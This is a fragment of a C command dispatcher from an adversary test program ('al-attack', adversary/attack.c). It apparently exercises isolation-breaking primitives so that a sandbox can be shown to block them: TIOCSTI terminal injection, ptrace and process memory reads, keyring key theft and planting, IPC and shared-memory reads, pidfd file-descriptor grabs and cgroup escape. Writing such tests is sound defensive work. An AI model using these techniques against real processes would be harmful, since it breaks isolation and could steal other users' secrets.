	if (!strcmp(c, "uring-connect") && argc == 4)
		return uring_connect_cmd(argv[2], argv[3]);
	if (!strcmp(c, "uring-read") && argc == 3)
		return uring_read_cmd(argv[2]);
	if (!strcmp(c, "vmread") && argc == 3)
		return vmread_cmd(atoi(argv[2]));
	if (!strcmp(c, "procmem") && argc == 3)
		return procmem_cmd(atoi(argv[2]));
	if (!strcmp(c, "ptrace") && argc == 3)
		return ptrace_cmd(atoi(argv[2]));
	if (!strcmp(c, "kill") && argc == 4)
		return say("kill", kill(atoi(argv[2]), atoi(argv[3])));
	if (!strcmp(c, "bpf"))
		return bpf_cmd();
	if (!strcmp(c, "userns-bind") && argc == 5)
		return userns_bind_cmd(argv[2], argv[3], argv[4]);
	if (!strcmp(c, "mount-bind") && argc == 5)
		return mount_bind_cmd(argv[2], argv[3], argv[4]);
	if (!strcmp(c, "chroot") && argc == 4)
		return chroot_cmd(argv[2], argv[3]);
	if (!strcmp(c, "handle") && argc == 4)
		return handle_cmd(argv[2], argv[3]);
	if (!strcmp(c, "truncate") && argc == 3)
		return say("truncate", truncate(argv[2], 0));
	if (!strcmp(c, "setxattr") && argc == 4)
		return say("setxattr", setxattr(argv[2], argv[3], "x", 1, 0));
	if (!strcmp(c, "chown") && argc == 3)
		return say("chown", chown(argv[2], 0, 0));
	if (!strcmp(c, "mknod") && argc == 3)
		return say("mknod", mknod(argv[2], S_IFIFO | 0666, 0));
	if (!strcmp(c, "victim") && argc == 4)
		return victim_cmd(argv[2], argv[3]);
	if (!strcmp(c, "pty-run") && argc >= 4)
		return pty_run_cmd(argv[2], argv + 3);
	if (!strcmp(c, "tty-holder") && argc == 2)
		return tty_holder_cmd();
	if (!strcmp(c, "tiocsti") && argc == 3)
		return tiocsti_cmd("tiocsti", TIOCSTI, argv[2]);
	if (!strcmp(c, "tiocsti64") && argc == 3)
		return tiocsti_cmd("tiocsti64", AL_TIOCSTI_HIGH | TIOCSTI, argv[2]);
	if (!strcmp(c, "tioclinux") && argc == 2) {
		char sub = TIOCL_PASTESEL;

		return say("tioclinux", ioctl(STDIN_FILENO, TIOCLINUX, &sub));
	}
	if (!strcmp(c, "tty-steal") && argc == 3)
		return tty_steal_cmd(argv[2]);
	if (!strcmp(c, "ipc-holder") && argc == 2)
		return ipc_holder_cmd();
	if (!strcmp(c, "ipc-clean") && argc == 2)
		return ipc_clean_cmd();
	if (!strcmp(c, "ipc-state") && argc == 2)
		return ipc_state_cmd();
	if (!strcmp(c, "shm-read") && argc == 3)
		return shm_read_cmd(strtoul(argv[2], NULL, 0));
	if (!strcmp(c, "shm-mem") && argc == 5)
		return shm_mem_cmd(atoi(argv[2]), strtoul(argv[3], NULL, 0), strtoul(argv[4], NULL, 0));
	if (!strcmp(c, "msg-read") && argc == 3)
		return msg_read_cmd(strtoul(argv[2], NULL, 0));
	if (!strcmp(c, "sem-set") && argc == 3)
		return sem_set_cmd(strtoul(argv[2], NULL, 0));
	if (!strcmp(c, "mq-read") && argc == 3)
		return mq_read_cmd(argv[2]);
	if (!strcmp(c, "ipc-setns") && argc >= 4)
		return ipc_setns_cmd(argv[2], argv + 3);
	if (!strcmp(c, "key-setup") && argc == 3)
		return key_setup_cmd(argv[2]);
	if (!strcmp(c, "key-state") && argc == 2)
		return key_state_cmd();
	if (!strcmp(c, "key-steal") && argc == 3)
		return key_steal_cmd(argv[2]);
	if (!strcmp(c, "key-plant") && argc == 3)
		return say("add_key", (int)syscall(SYS_add_key, "user", argv[2], AL_KEY_PLANTED,
						   strlen(AL_KEY_PLANTED), KEY_SPEC_USER_KEYRING));
	if (!strcmp(c, "prlimit") && argc == 3) {
		struct rlimit r = { AL_PLANTED_NOFILE, AL_PLANTED_NOFILE };

		return say("prlimit", prlimit(atoi(argv[2]), RLIMIT_NOFILE, &r, NULL));
	}
	if (!strcmp(c, "setpriority") && argc == 3)
		return say("setpriority", setpriority(PRIO_PROCESS, (id_t)atoi(argv[2]), AL_PLANTED_NICE));
	if (!strcmp(c, "sched-idle") && argc == 3) {
		struct sched_param sp = { 0 };

		return say("sched_setscheduler", sched_setscheduler(atoi(argv[2]), SCHED_IDLE, &sp));
	}
	if (!strcmp(c, "ioprio-set") && argc == 3)
		return say("ioprio_set", (int)syscall(SYS_ioprio_set, AL_IOPRIO_WHO_PROCESS, atoi(argv[2]),
						      AL_IOPRIO_CLASS_IDLE << AL_IOPRIO_CLASS_SHIFT));
	if (!strcmp(c, "ioprio-get") && argc == 3)
		return ioprio_get_cmd(atoi(argv[2]));
	if (!strcmp(c, "sigio") && argc == 4)
		return sigio_cmd(argv[2], atoi(argv[3]));
	if (!strcmp(c, "pidfd-getfd") && argc == 3)
		return pidfd_getfd_cmd(atoi(argv[2]));
	if (!strcmp(c, "cgroup-leave") && argc == 2)
		return cgroup_leave_cmd();
	if (!strcmp(c, "kcmp") && argc == 3)
		return say("kcmp", (int)syscall(SYS_kcmp, getpid(), atoi(argv[2]), KCMP_FILE, 0, 0));
	if (!strcmp(c, "process-madvise") && argc == 3)
		return process_madvise_cmd(atoi(argv[2]));
	if (!strcmp(c, "move-pages") && argc == 3)
		return move_pages_cmd(atoi(argv[2]));
	if (!strcmp(c, "utime") && argc == 3)
		return utime_cmd(argv[2], false);
	if (!strcmp(c, "opath-utime") && argc == 3)
		return utime_cmd(argv[2], true);
	fprintf(stderr, "usage: al-attack COMMAND ARGS (see adversary/attack.c)\n");
	return 2;
}
